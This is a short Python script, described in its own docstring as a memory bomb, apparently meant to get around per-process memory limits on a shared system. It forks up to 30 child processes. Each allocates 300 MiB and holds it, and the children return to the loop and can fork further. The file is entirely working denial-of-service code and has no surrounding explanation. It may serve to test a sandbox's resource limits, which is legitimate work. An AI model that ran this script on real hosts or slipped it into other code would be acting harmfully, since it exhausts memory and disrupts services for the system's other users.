"""Share a memory bomb among many processes, each of them below its own limit."""
import os, time
for _ in range(30):
    try:
        if os.fork() == 0:
            hoard = bytearray(b"x" * (300 * 2**20))
            time.sleep(60)
    except (OSError, MemoryError):
        pass
time.sleep(60)
